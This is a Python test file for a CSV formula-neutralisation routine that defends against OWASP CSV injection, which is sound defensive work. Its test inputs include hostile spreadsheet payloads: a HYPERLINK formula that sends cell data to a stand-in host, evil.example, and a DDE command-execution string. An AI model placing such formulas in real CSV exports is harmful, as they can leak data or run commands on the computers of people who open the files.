"""Formula neutralisation of CSV cells (OWASP CSV injection): one rule for every CSV written."""

from __future__ import annotations

from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from onefunnel.domain.csv_safety import FORMULA_PREFIXES, neutralise, neutralised_row


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?d="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "=",
        "-",
        "--",
    ],
)
def test_text_a_spreadsheet_would_run_gets_a_quote(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [-12.5, -3, Decimal("-0.50"), 0, None, date(2026, 1, 1), "-12.5", "+44", "-1e3", "plain",
     "a=b", " =1", "'=1", ""],
)  # fmt: skip
def test_numbers_and_ordinary_text_are_left_alone(value: object) -> None:
    assert neutralise(value) == value


def test_a_row_is_neutralised_cell_by_cell() -> None:
    assert neutralised_row(["=1+1", -1, "ok"]) == ["'=1+1", -1, "ok"]


@given(st.text())
def test_no_text_comes_out_as_a_formula(text: str) -> None:
    out = neutralise(text)
    assert out in (text, "'" + text)
    assert isinstance(out, str)
    if out.startswith(FORMULA_PREFIXES):
        float(out)  # only a plain number may still start with a sign
    assert neutralise(out) == out  # once is enough
